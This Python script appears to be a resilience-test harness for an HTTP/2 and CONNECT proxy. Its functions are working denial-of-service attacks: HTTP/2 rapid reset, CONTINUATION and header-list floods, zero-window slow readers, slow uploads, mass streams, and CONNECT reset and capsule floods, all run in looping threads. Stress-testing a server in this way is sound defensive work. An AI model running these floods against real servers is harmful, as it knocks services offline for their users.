"""Attacks on the web server on TCP, by h2, hpack and ssl. Each goes on until its input ends, and ends with status 0, or with a traceback.

    attacker.py VERB PORT CREDENTIALS     CREDENTIALS are those of a user, for the attacks of users
"""

import os
import socket
import ssl
import struct
import sys
import threading
import time
import traceback

import hpack

from user_client import Http1, fields, varint
from visitor import HEADERS, NAME, connect, frame

GONE = (ConnectionError, ssl.SSLError, TimeoutError, OSError)
over = threading.Event()


def until_over(attack, port, *more):
    """Does it again and again, on one connection after the other."""
    while not over.is_set():
        try:
            attack(port, *more)
        except GONE:
            time.sleep(0.02)


def raw_http2(port, settings=b""):
    tls = connect(port, "h2")
    tls.settimeout(5)
    tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings))
    return tls, hpack.Encoder()


def drain(tls):
    tls.settimeout(0.001)
    try:
        while tls.recv(65536):
            pass
    except TimeoutError:
        pass
    tls.settimeout(5)


def rapid_reset(port):
    tls, encoder = raw_http2(port)
    for number in range(20000):
        stream = 2 * number + 1
        tls.sendall(frame(1, 5, stream, encoder.encode(HEADERS)) + frame(3, 0, stream, struct.pack(">I", 8)))


def continuation(port):
    tls, encoder = raw_http2(port)
    tls.sendall(frame(1, 1, 1, encoder.encode(HEADERS)))
    piece = b"\x00\x04x-aa\x7f\x81\x01" + b"b" * 256
    while True:
        tls.sendall(frame(9, 0, 1, piece * 40))


def header_lists(port):
    """Heads of 30 KiB on every stream, of which none is whole: no end of the stream, and no answer is read."""
    tls, encoder = raw_http2(port)
    many = [(f"x-{number}", "y" * 250) for number in range(100)]
    for number in range(200):
        section = encoder.encode(HEADERS[:1] + HEADERS[1:] + many)
        tls.sendall(frame(1, 0, 2 * number + 1, section[:16000]) + frame(9, 4, 2 * number + 1, section[16000:]))
    time.sleep(1)


def slow_readers(port):
    """Streams with a window of nothing, on one connection after the other, which all stay open."""
    held = []
    try:
        for _ in range(80):
            tls, encoder = raw_http2(port, struct.pack(">HI", 4, 0))
            for number in range(100):
                section = encoder.encode(HEADERS[:3] + [(":path", "/zeros/9000000")])
                tls.sendall(frame(1, 5, 2 * number + 1, section))
            held.append(tls)
    except GONE:
        pass
    over.wait(5)
    for tls in held:
        tls.close()


def slow_uploads(port):
    """Content that comes byte by byte, on all streams of some connections."""
    held = []
    try:
        for _ in range(20):
            tls, encoder = raw_http2(port)
            for number in range(16):
                section = encoder.encode([(":method", "POST")] + HEADERS[1:])
                tls.sendall(frame(1, 4, 2 * number + 1, section) + frame(0, 0, 2 * number + 1, b"x" * 4000))
            held.append(tls)
    except GONE:
        pass
    for _ in range(50):
        if over.wait(0.1):
            break
        for tls in held:
            try:
                for number in range(16):
                    tls.sendall(frame(0, 0, 2 * number + 1, b"x"))
            except GONE:
                pass
    for tls in held:
        tls.close()


def streams(port):
    """Ten thousand streams one after another."""
    tls, encoder = raw_http2(port)
    for number in range(10000):
        if over.is_set():
            return
        tls.sendall(frame(1, 5, 2 * number + 1, encoder.encode(HEADERS)))
        while not any(kind == 0 and flags & 1 or kind == 3 for kind, flags in kinds(tls)):
            pass


def kinds(tls, rest={}):
    """The frames that came."""
    buffer = rest.get(tls, b"") + tls.recv(65536)
    while len(buffer) >= 9 and len(buffer) >= (size := 9 + int.from_bytes(buffer[:3], "big")):
        if buffer[3] == 6 and not buffer[4] & 1:
            tls.sendall(frame(6, 1, 0, buffer[9:17]))
        yield buffer[3], buffer[4]
        buffer = buffer[size:]
    rest.clear()
    rest[tls] = buffer


def user_resets(port, credentials):
    """A user's CONNECTs, reset at once."""
    tls, encoder = raw_http2(port)
    head = [(":method", "CONNECT"), (":authority", "web:80")] + fields(credentials)
    for number in range(2000):
        stream = 2 * number + 1
        tls.sendall(frame(1, 4, stream, encoder.encode(head)))
        if number % 8 == 7:
            drain(tls)
            tls.sendall(b"".join(frame(3, 0, stream - 2 * back, struct.pack(">I", 8)) for back in range(8)))


def user_capsules(port, credentials):
    """Capsules of 2^62 bytes, and as many datagrams as the connection takes, whose answers are never read."""
    client = Http1(port)
    client.tls.settimeout(5)
    assert client.udp("echo", 7, fields(credentials)) == "101"
    datagram = b"\0" + varint(1001) + b"\0" + b"x" * 1000
    for _ in range(200):
        client.send(datagram * 16)
    client.send(varint(0) + b"\xff" * 8)
    while not over.is_set():
        client.send(b"y" * 16384)


def user_unread(port, credentials):
    """A tunnel to a site that sends, and nobody who reads."""
    client = Http1(port)
    assert client.connect("site:80", fields(credentials)) == "200"
    client.send(b"GET /zeros/30000000 HTTP/1.0\r\n\r\n")
    over.wait(5)
    client.reset()


def failed(args):
    """An attack that cannot take place is no attack."""
    traceback.print_exception(args.exc_type, args.exc_value, args.exc_traceback)
    os._exit(1)


if __name__ == "__main__":
    threading.excepthook = failed
    verb, port, credentials = sys.argv[1:]
    more = [credentials] if verb.startswith("user_") else []
    # A daemon: a write that waits does not keep the process.
    threads = [threading.Thread(target=until_over, args=[globals()[verb], int(port), *more], daemon=True) for _ in range(2)]
    for thread in threads:
        thread.start()
    sys.stdin.read()
    over.set()
    for thread in threads:
        thread.join(10)
